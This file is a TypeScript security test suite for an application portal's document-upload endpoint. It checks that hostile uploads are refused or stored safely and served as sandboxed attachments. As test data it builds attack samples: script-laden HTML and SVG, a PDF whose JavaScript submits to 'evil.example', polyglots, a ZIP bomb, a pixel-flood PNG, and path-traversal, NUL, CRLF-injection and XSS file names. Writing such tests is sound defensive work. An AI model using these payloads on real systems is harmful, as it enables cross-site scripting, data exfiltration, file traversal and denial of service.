import { expect } from "chai";
import { createHash } from "node:crypto";
import fs from "node:fs/promises";
import path from "node:path";
import zlib from "node:zlib";
import request from "supertest";
import type { ErrorCode } from "../../server/errors.js";
import { UPLOAD_TEMP_DIRECTORY } from "../../server/http/uploads.js";
import { ApplicationDocument, Company, type Call, type User } from "../../server/models/index.js";
import {
  applicationPayload,
  createDraft,
  minimalPdf,
  minimalPng,
  seededCall,
  uploadRequest,
  type ApplicationBody,
  type DocumentBody,
  type UploadFile,
} from "../factories/applications.js";
import { createCompany, createMandate } from "../factories/companies.js";
import { createUser, TEST_PASSWORD } from "../factories/users.js";
import { API, clearRateLimits, signIn, type SignedIn } from "../helpers/auth.js";
import { expectProblem } from "../helpers/problem.js";
import { TEST_DOCUMENTS_DIRECTORY, useTestApp } from "../helpers/testApp.js";
import { binaryParser } from "../integration/applicationsApi.js";

/**
 * Issue 9, security suite: attacks on the application document upload
 * (POST /api/v1/applications/:id/documents). A refusal is a problem+json with a stable code that
 * leaves nothing anywhere (no row, no stored object, no temporary file); an accepted file is
 * stored under a random key and only ever served as a sandboxed attachment.
 */

const BOUNDARY = "----moussanada-security-boundary";
const sha256 = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");

// ——— Hostile files ———

const HTML_PAGE = Buffer.from(
  "<!DOCTYPE html><html><body><script>fetch('/api/v1/auth/me').then(r=>r.text()).then(alert)</script></body></html>",
);

const SVG_IMAGE = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
);

/** A PDF whose catalogue runs JavaScript when opened (/OpenAction) and on page view (/AA). */
function pdfWithJavaScript(): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
    "<< /Type /Action /S /JavaScript /JS (app.alert('pdf');this.submitForm('https://evil.example/')) >>",
  ];
  let body = "%PDF-1.7\n";
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

/** Starts as a PDF (so it is one, for file-type and PDF readers) and carries an HTML page. */
const PDF_THEN_HTML = Buffer.concat([minimalPdf("polyglotte"), HTML_PAGE]);

/** Starts as HTML and hides "%PDF-" in its first kilobyte, where lenient PDF readers look for it. */
const HTML_THEN_PDF = Buffer.concat([Buffer.from("<html><!-- "), minimalPdf("polyglotte"), Buffer.from(" -->")]);

function elfExecutable(): Buffer {
  const bytes = Buffer.alloc(512, 0);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(bytes, 0);
  bytes.writeUInt16LE(2, 16); // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18); // x86-64
  return bytes;
}

function windowsExecutable(): Buffer {
  const bytes = Buffer.alloc(512, 0);
  bytes.write("MZ", 0, "latin1");
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write("PE\0\0", 0x80, "latin1");
  return bytes;
}

/** A ZIP (what .docx and .xlsx are) holding one entry of 10 MB of zeros, deflated to a few KB. */
function zipBomb(): Buffer {
  const content = Buffer.alloc(10 * 1024 * 1024, 0);
  const compressed = zlib.deflateRawSync(content, { level: 9 });
  const name = Buffer.from("word/document.xml");
  const crc = zlib.crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(compressed.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(compressed.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + compressed.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, name, compressed, central, name, end]);
}

/**
 * A PNG "pixel flood": a few hundred bytes declaring 60,000 × 60,000 RGBA pixels (14.4 GB once
 * decoded). Only a program that decodes it would suffer.
 */
function pixelFloodPng(): Buffer {
  const png = minimalPng();
  const flood = Buffer.from(png);
  // IHDR data starts at 16: width, height (big-endian); colour type 6 = RGBA. CRC recomputed.
  flood.writeUInt32BE(60_000, 16);
  flood.writeUInt32BE(60_000, 20);
  flood[25] = 6;
  flood.writeUInt32BE(zlib.crc32(flood.subarray(12, 29)), 29);
  return flood;
}

/** `size` bytes that file-type reads as a PDF: a real minimal PDF padded with spaces after %%EOF. */
function pdfOfSize(size: number): Buffer {
  const pdf = minimalPdf("taille");
  return Buffer.concat([pdf, Buffer.alloc(size - pdf.length, 0x20)]);
}

// ——— Requests written byte by byte ———

interface Part {
  name: string;
  value?: string;
  /** Written raw into the part header (UTF-8), exactly as an attacker would. */
  filename?: string;
  /** An RFC 5987 filename* parameter instead of filename. */
  filenameStar?: string;
  type?: string;
  bytes?: Buffer;
}

function multipart(parts: Part[]): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    let head = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.name}"`;
    if (part.filename !== undefined) head += `; filename="${part.filename}"`;
    if (part.filenameStar !== undefined) head += `; filename*=${part.filenameStar}`;
    head += "\r\n";
    if (part.type) head += `Content-Type: ${part.type}\r\n`;
    head += "\r\n";
    chunks.push(Buffer.from(head, "utf8"), part.bytes ?? Buffer.from(part.value ?? "", "utf8"), Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return Buffer.concat(chunks);
}

const quoteWith = (file: Omit<Part, "name">): Buffer =>
  multipart([
    { name: "type", value: "quote" },
    { name: "file", type: "application/pdf", bytes: minimalPdf(), ...file },
  ]);

function rawUpload(session: SignedIn, applicationId: string, body: Buffer, headers: Record<string, string> = {}) {
  return session.agent
    .post(`${API}/applications/${applicationId}/documents`)
    .set("X-CSRF-Token", session.csrfToken)
    .set("Content-Type", `multipart/form-data; boundary=${BOUNDARY}`)
    .set(headers)
    .send(body);
}

const downloadOf = (session: SignedIn, applicationId: string, documentId: string) =>
  session.agent.get(`${API}/applications/${applicationId}/documents/${documentId}`).buffer(true).parse(binaryParser);

// ——— What a refusal must leave untouched ———

async function entriesOf(directory: string): Promise<string[]> {
  const found: string[] = [];
  async function walk(current: string): Promise<void> {
    let names: string[];
    try {
      names = await fs.readdir(current);
    } catch {
      return;
    }
    for (const name of names) {
      const full = path.join(current, name);
      const stats = await fs.lstat(full);
      if (stats.isDirectory()) await walk(full);
      else found.push(path.relative(directory, full));
    }
  }
  await walk(directory);
  return found.sort();
}

interface Snapshot {
  rows: number;
  stored: string[];
  temporary: string[];
}

async function snapshot(): Promise<Snapshot> {
  return {
    rows: await ApplicationDocument.count(),
    stored: await entriesOf(TEST_DOCUMENTS_DIRECTORY),
    temporary: await entriesOf(UPLOAD_TEMP_DIRECTORY),
  };
}

async function expectNothingLeft(before: Snapshot, label: string): Promise<void> {
  const after = await snapshot();
  expect(after.rows, `${label}: no new document row`).to.equal(before.rows);
  expect(after.stored, `${label}: nothing new in ${TEST_DOCUMENTS_DIRECTORY}`).to.deep.equal(before.stored);
  expect(
    after.temporary.filter((entry) => !before.temporary.includes(entry)),
    `${label}: nothing left in ${UPLOAD_TEMP_DIRECTORY}`,
  ).to.deep.equal([]);
}

// ——— The tables ———

interface Refusal {
  attack: string;
  send: (owner: SignedIn, applicationId: string) => Promise<request.Response> | request.Test;
  status: number;
  code: ErrorCode;
  /** The field the problem names, when the form could be read. */
  field?: string;
}

const pdfPart = (bytes: Buffer, filename: string, type = "application/pdf"): UploadFile => ({
  bytes,
  filename,
  contentType: type,
});

const MB = 1024 * 1024;

function refusals(maxFileBytes: () => number): Refusal[] {
  const file = (bytes: Buffer, filename: string, type = "application/pdf") =>
    ((owner: SignedIn, id: string) =>
      uploadRequest(owner, id, "quote", pdfPart(bytes, filename, type))) as Refusal["send"];
  return [
    {
      attack: "an HTML page renamed devis.pdf",
      send: file(HTML_PAGE, "devis.pdf"),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "an SVG image with onload and <script> renamed devis.pdf",
      send: file(SVG_IMAGE, "devis.pdf"),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "an SVG image sent as image/svg+xml under its own name",
      send: file(SVG_IMAGE, "logo.svg", "image/svg+xml"),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "an HTML page hiding %PDF- in its first kilobyte (HTML-first polyglot)",
      send: file(HTML_THEN_PDF, "devis.pdf"),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "a Linux executable (ELF) renamed devis.pdf",
      send: file(elfExecutable(), "devis.pdf"),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "a Windows executable (MZ/PE) renamed devis.pdf",
      send: file(windowsExecutable(), "devis.pdf"),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "a ZIP bomb (10 MB of zeros deflated) named devis.docx",
      send: file(zipBomb(), "devis.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "a ZIP bomb renamed devis.pdf",
      send: file(zipBomb(), "devis.pdf"),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "a PDF one byte over the size limit",
      send: (owner, id) => uploadRequest(owner, id, "quote", pdfPart(pdfOfSize(maxFileBytes() + 1), "scan.pdf")),
      status: 413,
      code: "payload-too-large",
      field: "file",
    },
    {
      attack: "a multipart body sent gzip-compressed (Content-Encoding: gzip, 10 MB inflating to 64 MB)",
      send: (owner, id) =>
        rawUpload(owner, id, zlib.gzipSync(quoteWith({ filename: "scan.pdf", bytes: pdfOfSize(64 * MB) })), {
          "Content-Encoding": "gzip",
        }),
      // Never inflated: busboy reads the compressed bytes as a broken form.
      status: 400,
      code: "malformed-request",
    },
    {
      attack: 'the name "../../etc/passwd.pdf"',
      send: (owner, id) => rawUpload(owner, id, quoteWith({ filename: "../../etc/passwd.pdf" })),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: 'the name "..\\\\..\\\\windows\\\\win.ini.pdf"',
      send: (owner, id) => rawUpload(owner, id, quoteWith({ filename: "..\\..\\windows\\win.ini.pdf" })),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "the name filename*=UTF-8''..%2F..%2Fetc%2Fpasswd.pdf",
      send: (owner, id) => rawUpload(owner, id, quoteWith({ filenameStar: "UTF-8''..%2F..%2Fetc%2Fpasswd.pdf" })),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "a NUL byte written raw in the name (devis.pdf\\0.html)",
      send: (owner, id) => rawUpload(owner, id, quoteWith({ filename: "devis.pdf\u0000.html" })),
      // busboy already finds such a part header unreadable.
      status: 400,
      code: "malformed-request",
    },
    {
      attack: "a NUL byte in an RFC 5987 name (devis.pdf%00.html)",
      send: (owner, id) => rawUpload(owner, id, quoteWith({ filenameStar: "UTF-8''devis.pdf%00.html" })),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "CR LF in an RFC 5987 name (header injection into the download)",
      send: (owner, id) =>
        rawUpload(owner, id, quoteWith({ filenameStar: "UTF-8''devis%0D%0ASet-Cookie%3A%20x%3D1.pdf" })),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "a name of 256 bytes",
      send: file(minimalPdf(), `${"a".repeat(252)}.pdf`),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "a name of 10,000 characters",
      send: (owner, id) => rawUpload(owner, id, quoteWith({ filename: `${"ب".repeat(10_000)}.pdf` })),
      // Over busboy's part-header limit, before the name is even read.
      status: 400,
      code: "malformed-request",
    },
    {
      attack: "two files in one request",
      send: (owner, id) =>
        rawUpload(
          owner,
          id,
          multipart([
            { name: "type", value: "quote" },
            { name: "file", filename: "un.pdf", type: "application/pdf", bytes: minimalPdf("un") },
            { name: "file", filename: "deux.pdf", type: "application/pdf", bytes: minimalPdf("deux") },
          ]),
        ),
      status: 422,
      code: "validation-failed",
      field: "file",
    },
    {
      attack: "50 files in one request, under other field names too",
      send: (owner, id) =>
        rawUpload(
          owner,
          id,
          multipart([
            { name: "type", value: "quote" },
            ...Array.from({ length: 50 }, (_, index) => ({
              name: index % 2 === 0 ? "file" : `file${index}`,
              filename: `devis-${index}.pdf`,
              type: "application/pdf",
              bytes: minimalPdf(`devis ${index}`),
            })),
          ]),
        ),
      status: 422,
      code: "validation-failed",
    },
  ];
}

describe("security: hostile uploads of application documents", function () {
  this.timeout(180_000);
  const context = useTestApp();
  let ownerUser: User;
  let owner: SignedIn;
  let call: Call;

  before(async () => {
    await clearRateLimits();
    ownerUser = await createUser({ role: "applicant", fullName: "Fatima Zahra Alaoui" });
    owner = await signIn(context().app, ownerUser.email, TEST_PASSWORD);
    call = await seededCall();
  });

  async function freshDraft(session: SignedIn = owner, user: User = ownerUser): Promise<ApplicationBody> {
    const company = await createCompany({ owner: user });
    return createDraft(session, applicationPayload(company.id, call.id));
  }

  async function documentsOf(applicationId: string): Promise<DocumentBody[]> {
    const response = await owner.agent.get(`${API}/applications/${applicationId}`);
    expect(response.status, response.text).to.equal(200);
    return (response.body as ApplicationBody).documents;
  }

  describe("refused: a clear problem, and nothing stored anywhere", () => {
    for (const refusal of refusals(() => context().services.config.uploads.maxFileBytes)) {
      it(refusal.attack, async () => {
        const draft = await freshDraft();
        const before = await snapshot();
        const response = await refusal.send(owner, draft.id);
        const problem = expectProblem(response, refusal.status, refusal.code);
        if (refusal.field) expect(problem.errors?.map((error) => error.path)).to.include(refusal.field);
        for (const error of problem.errors ?? [])
          expect(error.message)
            .to.be.a("string")
            .and.not.match(/\{\{|uploads\./);
        await expectNothingLeft(before, refusal.attack);
        expect(await documentsOf(draft.id)).to.deep.equal([]);
      });
    }

    it("one document more than an application may hold: 422 on file, nothing stored", async () => {
      const limit = context().services.config.uploads.maxDocumentsPerApplication;
      const draft = await freshDraft();
      for (let index = 0; index < limit; index += 1) {
        const response = await uploadRequest(
          owner,
          draft.id,
          "other",
          pdfPart(minimalPdf(`p${index}`), `p${index}.pdf`),
        );
        expect(response.status, response.text).to.equal(201);
      }
      const before = await snapshot();
      const response = await uploadRequest(owner, draft.id, "other", pdfPart(minimalPdf("extra"), "extra.pdf"));
      const problem = expectProblem(response, 422, "validation-failed");
      expect(problem.errors?.map((error) => error.path)).to.deep.equal(["file"]);
      await expectNothingLeft(before, "one document too many");
      expect(await documentsOf(draft.id)).to.have.length(limit);
    });

    describe("someone else's application", () => {
      interface Intruder {
        who: string;
        session: () => Promise<SignedIn | null>;
        status: number;
        code: ErrorCode;
      }
      let victimDraft: ApplicationBody;

      before(async () => {
        victimDraft = await freshDraft();
      });

      const intruders: Intruder[] = [
        {
          who: "another applicant",
          session: async () => {
            const user = await createUser({ role: "applicant" });
            return signIn(context().app, user.email, TEST_PASSWORD);
          },
          status: 404,
          code: "not-found",
        },
        {
          who: "a prescriber without a mandate",
          session: async () => {
            const user = await createUser({ role: "prescriber" });
            return signIn(context().app, user.email, TEST_PASSWORD);
          },
          status: 404,
          code: "not-found",
        },
        {
          who: "a prescriber whose mandate was revoked",
          session: async () => {
            const user = await createUser({ role: "prescriber" });
            const company = await Company.findByPk(victimDraft.company.id);
            if (!company) throw new Error("the victim's company is missing");
            await createMandate({ company, prescriber: user, revokedAt: "2026-06-01T00:00:00Z" });
            return signIn(context().app, user.email, TEST_PASSWORD);
          },
          status: 404,
          code: "not-found",
        },
        {
          who: "an officer (a draft is the company's own)",
          session: async () => {
            const user = await createUser({ role: "officer" });
            return signIn(context().app, user.email, TEST_PASSWORD);
          },
          status: 404,
          code: "not-found",
        },
        {
          who: "a trainer",
          session: async () => {
            const user = await createUser({ role: "trainer" });
            return signIn(context().app, user.email, TEST_PASSWORD);
          },
          status: 404,
          code: "not-found",
        },
        { who: "nobody signed in", session: async () => null, status: 401, code: "unauthenticated" },
      ];

      for (const intruder of intruders) {
        it(`${intruder.who}: ${intruder.status} ${intruder.code}, nothing stored, the file unchanged`, async () => {
          const session = await intruder.session();
          const before = await snapshot();
          let response: request.Response;
          if (session) {
            response = await uploadRequest(
              session,
              victimDraft.id,
              "quote",
              pdfPart(minimalPdf("intrus"), "intrus.pdf"),
            );
          } else {
            const anonymous = request.agent(context().app);
            const csrf = await anonymous.get(`${API}/auth/csrf`);
            response = await anonymous
              .post(`${API}/applications/${victimDraft.id}/documents`)
              .set("X-CSRF-Token", (csrf.body as { csrfToken: string }).csrfToken)
              .field("type", "quote")
              .attach("file", minimalPdf("intrus"), { filename: "intrus.pdf", contentType: "application/pdf" });
          }
          expectProblem(response, intruder.status, intruder.code);
          await expectNothingLeft(before, intruder.who);
          expect(await documentsOf(victimDraft.id)).to.deep.equal([]);
        });
      }
    });
  });

  describe("accepted: stored under a random key, served only as a sandboxed attachment", () => {
    interface Accepted {
      what: string;
      file: () => UploadFile;
      /** The raw part header name, when the name must reach the server byte for byte. */
      rawName?: string;
      mimeType: string;
      originalName: string;
      /** The plain ASCII `filename` of Content-Disposition. */
      asciiName: string;
    }
    const ACCEPTED: Accepted[] = [
      {
        // The product does not read what is inside a PDF: it keeps it as sent and never renders it.
        what: "a PDF with /OpenAction and /JavaScript (kept as sent: the product does not inspect PDF content)",
        file: () => pdfPart(pdfWithJavaScript(), "devis.pdf"),
        mimeType: "application/pdf",
        originalName: "devis.pdf",
        asciiName: "devis.pdf",
      },
      {
        what: "a PDF-first polyglot (a real PDF followed by an HTML page with a script)",
        file: () => pdfPart(PDF_THEN_HTML, "devis.html", "text/html"),
        mimeType: "application/pdf",
        originalName: "devis.html.pdf",
        asciiName: "devis.html.pdf",
      },
      {
        // Never decoded by the server; the officer's browser previews it and gives up on its size.
        what: "a PNG pixel flood (60,000 × 60,000 declared) is stored as is, never decoded",
        file: () => pdfPart(pixelFloodPng(), "scan.png", "image/png"),
        mimeType: "image/png",
        originalName: "scan.png",
        asciiName: "scan.png",
      },
      {
        what: "a PDF declared image/png and named .png: typed by its bytes",
        file: () => pdfPart(minimalPdf("menteur"), "photo.png", "image/png"),
        mimeType: "application/pdf",
        originalName: "photo.png.pdf",
        asciiName: "photo.png.pdf",
      },
      {
        what: "a PNG declared text/html and named page.html: typed by its bytes",
        file: () => pdfPart(minimalPng(), "page.html", "text/html"),
        mimeType: "image/png",
        originalName: "page.html.png",
        asciiName: "page.html.png",
      },
      {
        what: "a right-to-left override hiding .exe (facture\\u202Efdp.exe): the mark is dropped, .pdf added",
        file: () => pdfPart(minimalPdf("rtl"), "facture\u202Efdp.exe"),
        mimeType: "application/pdf",
        originalName: "facturefdp.exe.pdf",
        asciiName: "facturefdp.exe.pdf",
      },
      {
        what: "HTML in the name: kept as text, quotes and semicolons dropped",
        file: () => pdfPart(minimalPdf("html"), `<img src=x onerror="alert(1)">;x.pdf`),
        mimeType: "application/pdf",
        originalName: "<img src=x onerror=alert(1)>x.pdf",
        asciiName: "<img src=x onerror=alert(1)>x.pdf",
      },
      {
        what: "a name of exactly 255 bytes",
        file: () => pdfPart(minimalPdf("long"), `${"a".repeat(251)}.pdf`),
        mimeType: "application/pdf",
        originalName: `${"a".repeat(251)}.pdf`,
        asciiName: `${"a".repeat(251)}.pdf`,
      },
      {
        what: "an Arabic name with direction marks (\\u200F, \\u2067…\\u2069)",
        file: () => pdfPart(minimalPdf("ar"), "\u200Fعرض\u2067 الأسعار\u2069.pdf"),
        mimeType: "application/pdf",
        originalName: "عرض الأسعار.pdf",
        asciiName: "document.pdf",
      },
    ];

    for (const accepted of ACCEPTED) {
      it(accepted.what, async () => {
        const draft = await freshDraft();
        const upload = accepted.file();
        const response = await uploadRequest(owner, draft.id, "quote", upload);
        expect(response.status, response.text).to.equal(201);
        const document = response.body as DocumentBody;
        expect(document).to.deep.include({
          mimeType: accepted.mimeType,
          originalName: accepted.originalName,
          size: upload.bytes.length,
          sha256: sha256(upload.bytes),
        });

        // The key is random (128 bits as hex), unrelated to the name, the only name on disk.
        const row = await ApplicationDocument.findByPk(document.id);
        const key = row?.storageKey ?? "";
        expect(key).to.match(/^[0-9a-f]{32}$/);
        const onDisk = await entriesOf(TEST_DOCUMENTS_DIRECTORY);
        expect(onDisk).to.include(path.join(key.slice(0, 2), key));
        for (const entry of onDisk) expect(entry).to.match(/^[0-9a-f]{2}\/[0-9a-f]{32}$/);

        const download = await downloadOf(owner, draft.id, document.id);
        expect(download.status).to.equal(200);
        expect(Buffer.compare(download.body as Buffer, upload.bytes), "the bytes come back unchanged").to.equal(0);
        expect(download.headers["content-type"]).to.equal(accepted.mimeType);
        expect(download.headers["x-content-type-options"]).to.equal("nosniff");
        expect(download.headers["content-security-policy"]).to.equal("default-src 'none'; sandbox");
        expect(download.headers["cache-control"]).to.equal("private, no-store");
        const disposition = String(download.headers["content-disposition"]);
        const match = /^attachment; filename="([^"]*)"; filename\*=UTF-8''([^\s;"]+)$/.exec(disposition);
        expect(match, disposition).to.not.equal(null);
        expect(match?.[1]).to.equal(accepted.asciiName);
        expect(decodeURIComponent(match?.[2] ?? "")).to.equal(accepted.originalName);
        // eslint-disable-next-line no-control-regex -- the point is that none reaches the header
        expect(disposition).to.not.match(/[\u0000-\u001f\u007f\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
      });
    }

    it("the same bytes uploaded twice get two different random keys", async () => {
      const draft = await freshDraft();
      const bytes = minimalPdf("deux fois");
      const first = await uploadRequest(owner, draft.id, "quote", pdfPart(bytes, "devis.pdf"));
      const second = await uploadRequest(owner, draft.id, "other", pdfPart(bytes, "devis.pdf"));
      expect([first.status, second.status]).to.deep.equal([201, 201]);
      const rows = await ApplicationDocument.findAll({ where: { applicationId: draft.id } });
      const keys = rows.map((row) => row.storageKey);
      expect(new Set(keys).size).to.equal(2);
      expect(rows.map((row) => row.sha256)).to.deep.equal([sha256(bytes), sha256(bytes)]);
    });

    it("exactly at the size limit: accepted", async () => {
      const draft = await freshDraft();
      const limit = context().services.config.uploads.maxFileBytes;
      const response = await uploadRequest(owner, draft.id, "quote", pdfPart(pdfOfSize(limit), "scan.pdf"));
      expect(response.status, response.text).to.equal(201);
      expect((response.body as DocumentBody).size).to.equal(limit);
    });

    it("the storage key never comes from the request: a storageKey field or a key-like name changes nothing", async () => {
      const draft = await freshDraft();
      const before = await snapshot();
      const forged = await rawUpload(
        owner,
        draft.id,
        multipart([
          { name: "type", value: "quote" },
          { name: "storageKey", value: "../../../../etc/cron.d/x" },
          { name: "file", filename: "devis.pdf", type: "application/pdf", bytes: minimalPdf() },
        ]),
      );
      expectProblem(forged, 422, "validation-failed");
      await expectNothingLeft(before, "storageKey field");
      const keyName = "0123456789abcdef0123456789abcdef";
      const named = await uploadRequest(owner, draft.id, "quote", pdfPart(minimalPdf("cle"), keyName));
      expect(named.status, named.text).to.equal(201);
      const row = await ApplicationDocument.findByPk((named.body as DocumentBody).id);
      expect(row?.storageKey).to.not.equal(keyName);
    });
  });
});
